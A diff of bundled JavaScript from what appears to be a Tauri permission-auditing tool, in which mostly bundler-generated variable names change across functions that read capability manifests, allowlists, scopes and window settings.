     scope: allow2 || deny ? { allow: allow2 ?? [], deny: deny ?? [] } : null,
     platforms: platformsFrom(member(item, "platforms"), wrong),
     at: member(item, "identifier")?.at ?? item.at
@@ -25224,9 +28159,9 @@ function commandNamedBy(identifier) {
   if (slug === void 0) return void 0;
   return { effect: effect === "deny" ? "deny" : "allow", command: slug.replaceAll("-", "_") };
 }
-function withGenerated(commands2, named9, effect) {
-  const missing = named9?.effect === effect && !commands2.some((command) => slugOf(command) === slugOf(named9.command));
-  return missing && named9 !== void 0 ? [...commands2, named9.command] : commands2;
+function withGenerated(commands2, named10, effect) {
+  const missing2 = named10?.effect === effect && !commands2.some((command) => slugOf(command) === slugOf(named10.command));
+  return missing2 && named10 !== void 0 ? [...commands2, named10.command] : commands2;
 }
 function addCommand(permissions, { name, at: at2 }) {
   const common2 = { scope: null, platforms: EVERY_PLATFORM, at: at2 };
@@ -25236,7 +28171,7 @@ function addCommand(permissions, { name, at: at2 }) {
 function slugOf(command) {
   return command.replaceAll("_", "-");
 }
-function names(list) {
+function names2(list) {
   return stringsOf(list).map((item) => item.value);
 }
 function members(list) {
@@ -25252,23 +28187,23 @@ function manifestsOf4(project, script) {
   const gaps = [...own.gaps, ...app.gaps];
   const [inTree, inlined2] = [/* @__PURE__ */ new Map(), /* @__PURE__ */ new Map()];
   for (const [key, itsFiles] of pluginFiles(files, project)) {
-    const read7 = readPermissionFiles(itsFiles, [], lists);
-    for (const gap3 of read7.gaps) gaps.push(gap3);
-    inTree.set(key, read7.manifest);
+    const read9 = readPermissionFiles(itsFiles, [], lists);
+    for (const gap3 of read9.gaps) gaps.push(gap3);
+    inTree.set(key, read9.manifest);
   }
   for (const [name, { commands: commands2, default: given2 }] of script.plugins) {
-    const read7 = readPermissionFiles(own.inlined.get(name) ?? [], commands2, lists);
-    for (const gap3 of read7.gaps) gaps.push(gap3);
-    inlined2.set(name, { ...read7.manifest, default: read7.manifest.default ?? given2 });
+    const read9 = readPermissionFiles(own.inlined.get(name) ?? [], commands2, lists);
+    for (const gap3 of read9.gaps) gaps.push(gap3);
+    inlined2.set(name, { ...read9.manifest, default: read9.manifest.default ?? given2 });
   }
   const whole2 = ([key, manifest2]) => [key, { how: "known", manifest: manifest2 }];
-  const known6 = new Map([["", app.manifest], ...inlined2].map(whole2));
+  const known7 = new Map([["", app.manifest], ...inlined2].map(whole2));
   return {
     of(key) {
-      const before2 = known6.get(key);
+      const before2 = known7.get(key);
       if (before2 !== void 0) return before2;
       const answer = find(key, project, inTree);
-      known6.set(key, answer);
+      known7.set(key, answer);
       return answer;
     },
     isKey: (key) => inTree.has(key) || inlined2.has(key) || isCatalogued(key) || project.locked(crateOf(key)) !== void 0,
@@ -25304,15 +28239,15 @@ function find(key, project, inTree) {
   const local = inTree.get(key);
   if (local !== void 0) return { how: "in-tree", manifest: local };
   const locked = project.locked(crateOf(key));
-  const isNamed4 = locked !== void 0 && !(locked.assumed && locked.source?.kind === "path");
-  const version = isNamed4 ? locked.version : newestKnown(key);
+  const isNamed5 = locked !== void 0 && !(locked.assumed && locked.source?.kind === "path");
+  const version = isNamed5 ? locked.version : newestKnown(key);
   const answer = version === void 0 ? void 0 : lookUpPermissions(key, version, locked?.assumed === false ? "exact" : "at-least");
   if (version === void 0 || answer === void 0)
     return releasedManifest(key, project) ?? { how: "unknown" };
   const manifest2 = fromCatalogue(answer.manifest);
   const isOwn3 = locked?.source?.kind === "path" && !isCoreKey(key);
   const isGit = locked?.source?.kind === "git";
-  const instead = isOwn3 ? "own" : isGit ? "git" : isNamed4 ? "release" : "newest";
+  const instead = isOwn3 ? "own" : isGit ? "git" : isNamed5 ? "release" : "newest";
   const isPinned = locked !== void 0 && !locked.assumed;
   const certain = answer.assumed === null && isPinned && instead === "release";
   const released2 = certain ? void 0 : releasedManifest(key, project);
@@ -25325,7 +28260,7 @@ function releasedManifest(key, project) {
   const released2 = project.interfaces.get(needKey(need));
   if (released2 === void 0) return void 0;
   const at2 = project.locked(crateOf(key))?.at ?? null;
-  const files = released2.files.map(({ path, text: text2 }) => ({ path, text: text2, id: needKey(need) }));
+  const files = released2.files.map(({ path, text: text3 }) => ({ path, text: text3, id: needKey(need) }));
   const commands2 = (released2.commands ?? []).map((name) => ({ name, at: at2 }));
   const { manifest: manifest2, gaps } = readPermissionFiles(files, commands2, isTauri3(project));
   if (gaps.length > 0) return void 0;
@@ -25369,9 +28304,9 @@ function pluginFiles(files, project) {
   for (const [key, folders] of byPlugin) {
     const locked = project.locked(crateOf(key));
     if (locked !== void 0 && locked.source?.kind !== "path") continue;
-    const named9 = locked?.folder ?? null;
+    const named10 = locked?.folder ?? null;
     const [only] = folders.size === 1 ? folders.values() : [];
-    const its = named9 === null ? only : folders.get(named9);
+    const its = named10 === null ? only : folders.get(named10);
     if (its !== void 0) chosen2.set(key, its);
   }
   for (const { crate: crate2, folder } of project.pathCrates) {
@@ -25384,13 +28319,13 @@ function pluginFiles(files, project) {
 }
 
 // src/readers/tauri-acl/identifier.ts
-var LONGEST5 = 116;
-function isIdentifier(text2, { doubleDash, star: star2 }) {
+var LONGEST9 = 116;
+function isIdentifier(text3, { doubleDash, star: star2 }) {
   const letters = star2 ? /^[A-Za-z0-9][A-Za-z0-9:*-]*$/ : /^[A-Za-z0-9][A-Za-z0-9:-]*$/;
-  if (text2.length > LONGEST5 || !letters.test(text2)) return false;
-  if (text2.startsWith("tauri-plugin-") || /-:|:-|[-:]$/.test(text2)) return false;
-  if (!doubleDash && text2.includes("--")) return false;
-  return text2.startsWith("core:") || text2.split(":").length <= 2;
+  if (text3.length > LONGEST9 || !letters.test(text3)) return false;
+  if (text3.startsWith("tauri-plugin-") || /-:|:-|[-:]$/.test(text3)) return false;
+  if (!doubleDash && text3.includes("--")) return false;
+  return text3.startsWith("core:") || text3.split(":").length <= 2;
 }
 
 // src/readers/tauri-acl/reference-gaps.ts
@@ -25419,10 +28354,10 @@ var ReferenceGaps = class {
     const message = `What ${code(reference)} allows is not known: the permissions of the plugin ${code(key)} are neither in this repository nor among those that are known. Its name was taken at its word.`;
     this.#say("unknown-plugin", key, reference, message);
   }
-  assumedRelease(key, reference, known6) {
-    const isRelease = known6.instead === "release" || known6.instead === "newest";
-    const kind = isRelease ? "assumed-version" : "unknown-plugin";
-    this.#say(kind, key, reference, assumption(crateOf(key), known6), !isRelease);
+  assumedRelease(key, reference, known7) {
+    const isRelease2 = known7.instead === "release" || known7.instead === "newest";
+    const kind = isRelease2 ? "assumed-version" : "unknown-plugin";
+    this.#say(kind, key, reference, assumption(crateOf(key), known7), !isRelease2);
   }
   unknownPermission(key, reference, { from, version }) {
     const message = `${code(reference)} is no permission of ${code(key)} ${from}; whether ${version} has it is not known. Its name was taken at its word.`;
@@ -25485,21 +28420,21 @@ var Expansion = class {
     if (this.#isTooLarge(position)) return;
     const [key, id] = split2(reference, position.home, this.#manifests);
     const target = { reference, key, id };
-    const known6 = this.#manifests.of(key);
-    if (known6.how === "unknown") {
+    const known7 = this.#manifests.of(key);
+    if (known7.how === "unknown") {
       this.#unknown.unknownPlugin(key, reference);
       this.#infer(target, position, true);
       return;
     }
-    if (known6.how === "assumed") this.#unknown.assumedRelease(key, reference, known6);
+    if (known7.how === "assumed") this.#unknown.assumedRelease(key, reference, known7);
     if (key === "" && id === "default" && !this.#manifests.appHasManifest) {
       this.#unknown.refused(key, reference, "is not declared by the app");
       return;
     }
-    const { manifest: manifest2 } = known6;
+    const { manifest: manifest2 } = known7;
     const isInSet = position.above.length > 0;
     const members2 = id === "default" ? manifest2.default ?? [] : membersOf3(manifest2, id, isInSet);
-    if (members2 === void 0) this.#addPermission(target, known6, position);
+    if (members2 === void 0) this.#addPermission(target, known7, position);
     else this.#expandSet(target, members2, position);
   }
   #isTooLarge({ above }) {
@@ -25522,15 +28457,15 @@ var Expansion = class {
       this.#expand(name, { home: key, above: [...above, path], steps: [...steps, step] });
     }
   }
-  #addPermission(target, known6, position) {
+  #addPermission(target, known7, position) {
     const { reference, key, id } = target;
-    const permission2 = known6.manifest.permission(id) ?? this.#wildcard(key, id, known6.manifest);
+    const permission2 = known7.manifest.permission(id) ?? this.#wildcard(key, id, known7.manifest);
     if (permission2 !== void 0) {
       this.leaves.push({ key, id, permission: permission2, inferred: false, steps: position.steps });
-    } else if (known6.how === "in-tree" && /^(?:allow|deny)-[^*]+$/.test(id)) {
+    } else if (known7.how === "in-tree" && /^(?:allow|deny)-[^*]+$/.test(id)) {
       this.#infer(target, position, false);
-    } else if (known6.how === "assumed") {
-      this.#unknown.unknownPermission(key, reference, known6);
+    } else if (known7.how === "assumed") {
+      this.#unknown.unknownPermission(key, reference, known7);
       this.#infer(target, position, true);
     } else {
       const why = key === "" ? "is not declared by the app" : `is none of the plugin ${code(key)} at this version`;
@@ -25589,14 +28524,14 @@ function scopeSettings(project, platform) {
   };
 }
 function saidBy2(project, platform) {
-  const setting10 = (...keys) => configSetting(project, platform, ...keys);
-  const moved = [setting10("app", "appDirectoriesOverride"), setting10("identifier")];
+  const setting12 = (...keys) => configSetting(project, platform, ...keys);
+  const moved = [setting12("app", "appDirectoriesOverride"), setting12("identifier")];
   const shell = project.locked("tauri-plugin-shell");
   const release = shell?.at ? [{ name: "tauri-plugin-shell", value: shell.version, at: shell.at }] : [];
   return /* @__PURE__ */ new Map([
-    ["fs", [setting10("plugins", "fs", "requireLiteralLeadingDot"), ...moved]],
-    ["opener", [setting10("plugins", "opener", "requireLiteralLeadingDot"), ...moved]],
-    ["shell", [setting10("plugins", "shell", "open"), ...release]]
+    ["fs", [setting12("plugins", "fs", "requireLiteralLeadingDot"), ...moved]],
+    ["opener", [setting12("plugins", "opener", "requireLiteralLeadingDot"), ...moved]],
+    ["shell", [setting12("plugins", "shell", "open"), ...release]]
   ]);
 }
 function formOf(key) {
@@ -25657,10 +28592,10 @@ function scopeOf3(entry, { scope }, key) {
   };
 }
 function ownEntry(form, entry, permissionAt) {
-  const known6 = ownEntries.get(entry) ?? /* @__PURE__ */ new Map();
-  ownEntries.set(entry, known6);
-  const found9 = known6.get(form) ?? scopeEntry(form, entry.value, entry.at ?? permissionAt);
-  known6.set(form, found9);
+  const known7 = ownEntries.get(entry) ?? /* @__PURE__ */ new Map();
+  ownEntries.set(entry, known7);
+  const found9 = known7.get(form) ?? scopeEntry(form, entry.value, entry.at ?? permissionAt);
+  known7.set(form, found9);
   return found9;
 }
 var ownEntries = /* @__PURE__ */ new WeakMap();
@@ -25695,8 +28630,8 @@ function commonOf({ leaf, entry, capability: { capability, enabledAt }, platform
 }
 function poured(common2, { settings: settings2 }) {
   if (common2.scope === null) return [];
-  const read7 = readingOf(common2.plugin, void 0, settings2);
-  return [{ ...common2, effect: "scope", command: "", context: { kind: "local" }, ...read7 }];
+  const read9 = readingOf(common2.plugin, void 0, settings2);
+  return [{ ...common2, effect: "scope", command: "", context: { kind: "local" }, ...read9 }];
 }
 function allowed(common2, commands2, contexts, resolving) {
   return contexts.flatMap(
@@ -25708,7 +28643,7 @@ function allowed(common2, commands2, contexts, resolving) {
 function denied(common2, commands2, contexts, resolving) {
   const { manifests, tauri } = resolving;
   const its = tauri.since212 ? contexts : contexts.slice(0, 1).map(() => ANY_PAGE);
-  const settings2 = versionOf3(tauri);
+  const settings2 = versionOf5(tauri);
   return its.flatMap(
     (context2) => commandsOf(commands2, common2.plugin, manifests).map(({ name, at: at2 }) => {
       const call2 = called2(common2.plugin, name, resolving);
@@ -25717,18 +28652,18 @@ function denied(common2, commands2, contexts, resolving) {
   );
 }
 var ANY_PAGE = { kind: "any" };
-function versionOf3({ since212, at: at2 }) {
+function versionOf5({ since212, at: at2 }) {
   return at2 === null ? [] : [{ name: "tauri", value: since212 ? "since 2.12" : "before 2.12", at: at2 }];
 }
 function called2(key, command, { settings: settings2 }) {
   return { command: commandKey(key, command), ...readingOf(key, command, settings2) };
 }
-function commandsOf(names2, key, manifests) {
-  return names2.flatMap((name) => {
+function commandsOf(names3, key, manifests) {
+  return names3.flatMap((name) => {
     if (name !== "*") return [{ name, at: null }];
     if (!manifests.wildcards) return [];
-    const known6 = manifests.of(key);
-    const manifest2 = known6.how === "unknown" ? void 0 : known6.manifest;
+    const known7 = manifests.of(key);
+    const manifest2 = known7.how === "unknown" ? void 0 : known7.manifest;
     const declared3 = [...manifest2?.commands ?? [], ...manifest2?.named ?? []].filter(
       (command) => command.name !== "*"
     );
@@ -25846,7 +28781,7 @@ function argumentsOf2(project, { file: file2, index }, open) {
 }
 function textIn2(expression) {
   const isPath = expression.kind === "call" && /^(?:Path::new|PathBuf::from)$/.test(expression.path.slice(-2).join("::"));
-  return textOf4(isPath ? expression.arguments[0] : expression)?.value;
+  return textOf5(isPath ? expression.arguments[0] : expression)?.value;
 }
 function computedFrom(project, { mention }, computed3) {
   const { file: file2, index, groups: groups3, isInMacro: isInMacro2 } = mention;
@@ -25869,8 +28804,8 @@ function usesOf(project, name) {
 // src/tauri/own-schemes.ts
 var REGISTERS = ["register_asynchronous_uri_scheme_protocol", "register_uri_scheme_protocol"];
 function ownSchemes(project) {
-  const known6 = found6.get(project);
-  if (known6 !== void 0) return known6;
+  const known7 = found6.get(project);
+  if (known7 !== void 0) return known7;
   const schemes = codeCalls(project, REGISTERS).map((call2) => ({
     name: call2.arguments[0]?.text ?? null,
     call: call2
@@ -25885,7 +28820,7 @@ var WITH_HOSTS_FOR_SCHEMES = platformSet("windows") | platformSet("android");
 function takenForLocal(project, grants) {
   const tauri = project.locked("tauri");
   if (tauri === void 0 || tauri.assumed || tauri.at === null || !isBefore(tauri.version, "2.11.1"))
-    return NOTHING4;
+    return NOTHING5;
   const { at: at2 } = tauri;
   const schemes = ownSchemes(project);
   const protocols = isBefore(tauri.version, "2.1.0") ? ["http"] : ["http", "https"];
@@ -25901,7 +28836,7 @@ function takenForLocal(project, grants) {
     gaps: local.length === 0 ? [] : computed3.map(({ call: call2 }) => anySite(call2.mention.at, tauri.version))
   };
 }
-var NOTHING4 = { grants: [], gaps: [] };
+var NOTHING5 = { grants: [], gaps: [] };
 var SCHEME = /^[a-z][a-z0-9-]*$/;
 function asSite(grant, url) {
   const platforms = grant.platforms & WITH_HOSTS_FOR_SCHEMES;
@@ -25948,10 +28883,10 @@ function unknownPlugins(project) {
   if (project.major !== 2) return [];
   const script = buildScriptOf(project);
   const manifests = manifestsOf4(project, script);
-  const named9 = activeCapabilities(project, script).active.flatMap(
+  const named10 = activeCapabilities(project, script).active.flatMap(
     ({ capability }) => capability.permissions
   );
-  const keys = new Set(named9.map(({ id }) => id.slice(0, Math.max(0, id.lastIndexOf(":")))));
+  const keys = new Set(named10.map(({ id }) => id.slice(0, Math.max(0, id.lastIndexOf(":")))));
   return [...keys].filter((key) => ["unknown", "assumed"].includes(manifests.of(key).how)).flatMap((key) => neededFor2(key, project) ?? []);
 }
 function tauriRules(project) {
@@ -26067,7 +29002,7 @@ var OPTIONS = [
     "setCursorGrab setCursorIcon setCursorPosition setCursorVisible setDecorations setFocus setFullscreen setIcon",
     "setIgnoreCursorEvents setMaxSize setMaximizable setMinSize setMinimizable setPosition setResizable setSize",
     "setSkipTaskbar setTitle show startDragging unmaximize unminimize"
-  ].flatMap((names2) => names2.split(" ")).map((name) => option(`window.${name}`, `window|${snakeCase(name)}`))
+  ].flatMap((names3) => names3.split(" ")).map((name) => option(`window.${name}`, `window|${snakeCase(name)}`))
 ];
 var ALWAYS2 = [
   "app|name app|version app|tauri_version",
@@ -26091,9 +29026,9 @@ function option(flags, commands2) {
 function snakeCase(name) {
   return name.replace(/[A-Z]/g, (letter) => `_${letter.toLowerCase()}`);
 }
-function groups(names2) {
+function groups(names3) {
   const result2 = /* @__PURE__ */ new Map();
-  for (const name of names2.flatMap((several) => several.split(" "))) {
+  for (const name of names3.flatMap((several) => several.split(" "))) {
     const [group2 = "", flag = ""] = name.split(".");
     result2.set(group2, (result2.get(group2) ?? /* @__PURE__ */ new Set(["all"])).add(flag));
   }
@@ -26105,14 +29040,14 @@ function readAllowlist(config) {
   const root = pick(config, "tauri", "allowlist");
   const gaps = [];
   const values = /* @__PURE__ */ new Map();
-  const note3 = (name, known6, { key, value }) => {
-    if (known6 && isRightFor(name, value)) values.set(name, value);
+  const note3 = (name, known7, { key, value }) => {
+    if (known7 && isRightFor(name, value)) values.set(name, value);
     else
       gaps.push(
         gapAt(key, {
           kind: "does-not-build",
           rests: wordsOf(name, plain(value)),
-          message: refusal(name, known6)
+          message: refusal(name, known7)
         })
       );
   };
@@ -26156,8 +29091,8 @@ function isRightFor(name, { kind }) {
   }
   return kind === "boolean" || kind === "string" && name === "shell.open";
 }
-function refusal(name, known6) {
-  const what = known6 ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
+function refusal(name, known7) {
+  const what = known7 ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
   return `${code(name)} in the allowlist ${what}: the app doesn't build. It was read as granting nothing.`;
 }
 
@@ -26168,8 +29103,8 @@ function ownPlugins(project) {
     const path = pathAt(source.tokens, index, source.tokens.length);
     if (path?.names.join("::") !== "Builder::new" || !isOpen(source.tokens[path.next], "(")) return [];
     const [only, ...others] = argumentsAt(source, path.next);
-    const text2 = only !== void 0 && others.length === 0 ? textOf4(expressionIn(source, only)) : void 0;
-    return text2 === void 0 ? [] : [{ name: text2.value, at: placeOf8(text2.span) }];
+    const text3 = only !== void 0 && others.length === 0 ? textOf5(expressionIn(source, only)) : void 0;
+    return text3 === void 0 ? [] : [{ name: text3.value, at: placeOf8(text3.span) }];
   });
 }
 
@@ -26192,14 +29127,14 @@ function pluginsIn(table2) {
 // src/readers/tauri-allowlist/remote-access.ts
 function remoteAccess(config) {
   const security = new Map(membersOf4(pick(config, "tauri", "security")));
-  const entries = itemsOf(security.get("dangerousRemoteDomainIpcAccess")?.value).flatMap(entryOf);
+  const entries = itemsOf(security.get("dangerousRemoteDomainIpcAccess")?.value).flatMap(entryOf3);
   const gaps = [];
   const sites = entries.flatMap((entry, i2) => {
     const earlier = entries.slice(0, i2).filter(({ domain }) => domain === entry.domain);
     const taken3 = windowsOf(earlier.filter(({ scheme }) => scheme === null || scheme === entry.scheme));
-    const windows2 = entry.windows.filter(({ text: text2 }) => !taken3.has(text2));
+    const windows2 = entry.windows.filter(({ text: text3 }) => !taken3.has(text3));
     const partly = windowsOf(earlier.filter(({ scheme }) => entry.scheme === null && scheme !== null));
-    if (windows2.some(({ text: text2 }) => partly.has(text2))) {
+    if (windows2.some(({ text: text3 }) => partly.has(text3))) {
       const message = `${code(entry.domain)} has an entry for one scheme before this one for all, which then decides for the others only. It was read as deciding for all.`;
       gaps.push(
         gapAt(entry.url.at, {
@@ -26215,27 +29150,27 @@ function remoteAccess(config) {
 }
 var DOMAIN = /^(?!\d+(?:\.\d+){3}$)[a-z0-9_](?:[a-z0-9._-]*[a-z0-9_])?$/;
 var LABEL = /^[A-Za-z0-9/:_-]+$/;
-function entryOf(item) {
-  const fields = new Map(membersOf4(item).map(([name, { value }]) => [name, value]));
-  const named9 = fields.get("domain");
-  const domain = asString(named9);
-  const scheme = asString(fields.get("scheme")) ?? null;
-  if (named9 === void 0 || domain === void 0 || !DOMAIN.test(domain)) return [];
+function entryOf3(item) {
+  const fields2 = new Map(membersOf4(item).map(([name, { value }]) => [name, value]));
+  const named10 = fields2.get("domain");
+  const domain = asString(named10);
+  const scheme = asString(fields2.get("scheme")) ?? null;
+  if (named10 === void 0 || domain === void 0 || !DOMAIN.test(domain)) return [];
   if (scheme !== null && !/^[a-z][a-z0-9+.-]*$/.test(scheme)) return [];
-  const api = fields.get("enableTauriAPI") ?? fields.get("enableTauriApi");
+  const api = fields2.get("enableTauriAPI") ?? fields2.get("enableTauriApi");
   return [
     {
       scheme,
       domain,
-      url: { text: `${scheme ?? "*"}://${domain}:*`, at: named9.at },
-      windows: stringsOf(fields.get("windows")).filter(({ value }) => LABEL.test(value)).map(({ value, at: at2 }) => ({ text: value, at: at2 })),
-      plugins: stringsOf(fields.get("plugins")),
+      url: { text: `${scheme ?? "*"}://${domain}:*`, at: named10.at },
+      windows: stringsOf(fields2.get("windows")).filter(({ value }) => LABEL.test(value)).map(({ value, at: at2 }) => ({ text: value, at: at2 })),
+      plugins: stringsOf(fields2.get("plugins")),
       api: asBoolean(api) === true ? api : void 0
     }
   ];
 }
 function windowsOf(entries) {
-  return new Set(entries.flatMap(({ windows: windows2 }) => windows2.map(({ text: text2 }) => text2)));
+  return new Set(entries.flatMap(({ windows: windows2 }) => windows2.map(({ text: text3 }) => text3)));
 }
 
 // src/readers/tauri-allowlist/scopes.ts
@@ -26261,9 +29196,9 @@ function scopesOf(allowlist, directories) {
   };
 }
 function pathScope(value, directories) {
-  const fields = new Map(membersOf4(value));
-  const lists = value?.kind === "array" ? { allow: paths(value), deny: [] } : deniedApart(fields.get("allow")?.value, fields.get("deny")?.value);
-  const literalDot2 = asBoolean(fields.get("requireLiteralLeadingDot")?.value) ?? null;
+  const fields2 = new Map(membersOf4(value));
+  const lists = value?.kind === "array" ? { allow: paths(value), deny: [] } : deniedApart(fields2.get("allow")?.value, fields2.get("deny")?.value);
+  const literalDot2 = asBoolean(fields2.get("requireLiteralLeadingDot")?.value) ?? null;
   return {
     plugin: "fs",
     option: "fs.scope",
@@ -26294,12 +29229,12 @@ function urlGlobs(list) {
 function programs(allowlist) {
   const byName = /* @__PURE__ */ new Map();
   for (const item of itemsOf(allowlist.value("shell.scope"))) {
-    const fields = new Map(membersOf4(item).map(([name2, { value }]) => [name2, value]));
-    const sidecar = asBoolean(fields.get("sidecar")) === true;
-    const name = asString(fields.get("name"));
+    const fields2 = new Map(membersOf4(item).map(([name2, { value }]) => [name2, value]));
+    const sidecar = asBoolean(fields2.get("sidecar")) === true;
+    const name = asString(fields2.get("name"));
     byName.delete(name);
     if (allowlist.enabled(sidecar ? "shell.sidecar" : "shell.execute") === void 0) continue;
-    const written6 = { ...plain(item), ...unanchored(fields.get("args")) };
+    const written6 = { ...plain(item), ...unanchored(fields2.get("args")) };
     byName.set(name, scopeEntry("program", written6, item.at));
   }
   return [...byName.values()];
@@ -26324,11 +29259,11 @@ var tauriAllowlist = {
   read(project) {
     if (project.major !== 1) return { grants: [], gaps: [] };
     const own = ownPlugins(project);
-    const surfaces = new Map(
+    const surfaces2 = new Map(
       PLATFORMS.map((platform) => [platform, readPlatform2(project, platform, own)])
     );
-    const grants = onEachPlatform((platform) => surfaces.get(platform)?.grants ?? []);
-    const gaps = onEachPlatform((platform) => surfaces.get(platform)?.gaps ?? []);
+    const grants = onEachPlatform((platform) => surfaces2.get(platform)?.grants ?? []);
+    const gaps = onEachPlatform((platform) => surfaces2.get(platform)?.gaps ?? []);
     return {
       grants: grants.map(([grant, platforms]) => ({ ...grant, platforms })),
       gaps: gaps.map(([gap3]) => gap3)
@@ -26380,10 +29315,10 @@ function readPlatform2(project, platform, own) {
 }
 var HELD_TO_A_SCOPE = /^(?:fs\|(?!(?:read|write|seek|ftruncate|read_text_file_lines_next)$)|http\|fetch$|shell\|(?:execute|spawn)$)/;
 function settingsByPlugin(project, platform) {
-  const setting10 = (...option2) => configSetting(project, platform, "tauri", "allowlist", ...option2);
+  const setting12 = (...option2) => configSetting(project, platform, "tauri", "allowlist", ...option2);
   return {
-    fs: [setting10("fs", "scope", "requireLiteralLeadingDot")],
-    shell: [setting10("shell", "open"), setting10("shell", "all"), setting10("all")]
+    fs: [setting12("fs", "scope", "requireLiteralLeadingDot")],
+    shell: [setting12("shell", "open"), setting12("shell", "all"), setting12("all")]
   };
 }
 function apiOf(allowlist, matchingOf2, settings2, top2) {
@@ -26462,9 +29397,9 @@ function isOnScope(project, mention) {
   if (isOwnMethod(project, mention)) return false;
   const { tokens } = mention.file.source;
   if (leadsToScope(tokens)) return true;
-  const names2 = inSight.get(project) ?? namesWithScopes(project);
-  inSight.set(project, names2);
-  return mention.isInMacro && names2.size > 0 || tokens.some(({ kind, text: text2 }) => kind === "word" && names2.has(text2));
+  const names3 = inSight.get(project) ?? namesWithScopes(project);
+  inSight.set(project, names3);
+  return mention.isInMacro && names3.size > 0 || tokens.some(({ kind, text: text3 }) => kind === "word" && names3.has(text3));
 }
 var inSight = /* @__PURE__ */ new WeakMap();
 var COMMON2 = /* @__PURE__ */ new Set(["lib", "main", "mod", "run"]);
@@ -26472,9 +29407,9 @@ function namesWithScopes(project) {
   const leading = new RegExp(["\\bscope\\b", ...LEADING2.keys()].join("|"));
   const all = rustOfApp(project).files;
   const found9 = /* @__PURE__ */ new Set();
-  const known6 = /* @__PURE__ */ new Set();
+  const known7 = /* @__PURE__ */ new Set();
   const declare = (rust) => {
-    known6.add(rust.file.path);
+    known7.add(rust.file.path);
     const { items } = readCode(rust);
     const free = items.functions.flatMap(({ name, owner }) => owner === null ? name : []);
     const module = baseName(rust.file.path).replace(/\.rs$/, "");
@@ -26485,14 +29420,14 @@ function namesWithScopes(project) {
   if (found9.size === 0) return found9;
   const mentioning = filesByType(all);
   for (const name of found9)
-    for (const rust of mentioning.get(name) ?? []) if (!known6.has(rust.file.path)) declare(rust);
+    for (const rust of mentioning.get(name) ?? []) if (!known7.has(rust.file.path)) declare(rust);
   return found9;
 }
 function filesByType(all) {
   const found9 = /* @__PURE__ */ new Map();
   for (const rust of all) {
     const words3 = readCode(rust).source.tokens.flatMap(
-      ({ kind, text: text2 }) => kind === "word" && /^[A-Z]/.test(text2) ? text2 : []
+      ({ kind, text: text3 }) => kind === "word" && /^[A-Z]/.test(text3) ? text3 : []
     );
     for (const word2 of new Set(words3)) {
       const files = found9.get(word2) ?? [];
@@ -26504,7 +29439,7 @@ function filesByType(all) {
 }
 function leadsToScope(tokens) {
   return tokens.some(
-    ({ kind, text: text2 }, at2) => kind === "word" && (LEADING2.has(text2) || isScopeModule(tokens, at2))
+    ({ kind, text: text3 }, at2) => kind === "word" && (LEADING2.has(text3) || isScopeModule(tokens, at2))
   );
 }
 function isScopeModule(tokens, at2) {
@@ -26527,7 +29462,7 @@ function scopeAt(file2, index) {
   return said2[0] ?? kindsIn(tokens.slice(0, index)).at(-1) ?? "fs";
 }
 function kindsIn(tokens) {
-  return tokens.flatMap(({ kind, text: text2 }) => kind === "word" ? LEADING2.get(text2) ?? [] : []);
+  return tokens.flatMap(({ kind, text: text3 }) => kind === "word" ? LEADING2.get(text3) ?? [] : []);
 }
 
 // src/readers/tauri-config/scope-calls.ts
@@ -26642,8 +29577,8 @@ function featuresOf(project, crate2, platform) {
   return new Map([...defaults.map((name) => [name, used.at]), ...used.features]);
 }
 function builtInto(project, platform) {
-  const ofProject = known4.get(project) ?? /* @__PURE__ */ new Map();
-  known4.set(project, ofProject);
+  const ofProject = known5.get(project) ?? /* @__PURE__ */ new Map();
+  known5.set(project, ofProject);
   const { location, files, flags } = project;
   const built = ofProject.get(platform) ?? enabledFeatures(
     cargoWorkspace(location.root, files),
@@ -26654,7 +29589,7 @@ function builtInto(project, platform) {
   ofProject.set(platform, built);
   return built;
 }
-var known4 = /* @__PURE__ */ new WeakMap();
+var known5 = /* @__PURE__ */ new WeakMap();
 
 // src/readers/tauri-config/dependencies.ts
 function dependsOn(project, crate2, platform) {
@@ -26675,8 +29610,8 @@ function isNamedAnywhere({ location, files }, crate2) {
 }
 var below4 = /* @__PURE__ */ new WeakMap();
 function lockedBelow(project) {
-  const known6 = below4.get(project);
-  if (known6 !== void 0) return known6;
+  const known7 = below4.get(project);
+  if (known7 !== void 0) return known7;
   const { location, files } = project;
   const lock = lockOf(location.root, files);
   const app = lock && ownPackage(lock, cargoWorkspace(location.root, files));
@@ -26720,7 +29655,7 @@ var PLUGINS = [
   { part: "fs plugin", crate: "tauri-plugin-fs" },
   { part: "http plugin", crate: "tauri-plugin-http" }
 ];
-function partsOf11(project, platform) {
+function partsOf13(project, platform) {
   const parts = [{ part: "app", at: topOf(project.location.config) }];
   const updater = updaterOf(project, platform);
   if (updater?.builtInAt !== void 0) parts.push({ part: updater.part, at: updater.builtInAt });
@@ -26761,9 +29696,9 @@ function windowsOf2(project, platform) {
     path: `${section}.windows[${index}]`
   }));
 }
-function perWindow({ keys, grants, ...setting10 }) {
+function perWindow({ keys, grants, ...setting12 }) {
   return {
-    ...setting10,
+    ...setting12,
     covers: ["app", "tauri"].flatMap((section) => keys.map((key) => `${section}.windows.*.${key}`)),
     inConfiguration(project, platform) {
       return windowsOf2(project, platform).flatMap((window) => grants(window, platform, project));
@@ -26794,12 +29729,12 @@ var browser_extensions_allowed_default = perWindow({
 });
 
 // src/readers/tauri-config/setting.ts
-function short(text2, longest = 160) {
-  const shown2 = visible(text2.slice(0, longest));
-  return text2.length > longest ? `${shown2}…` : shown2;
+function short(text3, longest = 160) {
+  const shown2 = visible(text3.slice(0, longest));
+  return text3.length > longest ? `${shown2}…` : shown2;
 }
-function withoutParts(text2) {
-  return text2.replaceAll(": ", ": ");
+function withoutParts(text3) {
+  return text3.replaceAll(": ", ": ");
 }
 
 // src/readers/tauri-config/settings/browser-switch-added.ts
@@ -26810,14 +29745,14 @@ var browser_switch_added_default = perWindow({
   platforms: ["windows"],
   grants({ value, path }) {
     const written6 = configKey(value, "additionalBrowserArgs");
-    const text2 = asString(written6);
-    if (written6 === void 0 || text2 === void 0) return [];
-    return switchesIn(text2).map((each) => ({
+    const text3 = asString(written6);
+    if (written6 === void 0 || text3 === void 0) return [];
+    return switchesIn(text3).map((each) => ({
       extent: each,
       subject: "The browser in the app",
       action: `run with ${code(each)}`,
       example: `msedgewebview2.exe ${short(each)}`,
-      written: `${path}.additionalBrowserArgs: ${JSON.stringify(short(text2))}`,
+      written: `${path}.additionalBrowserArgs: ${JSON.stringify(short(text3))}`,
       at: written6.at
     }));
   }
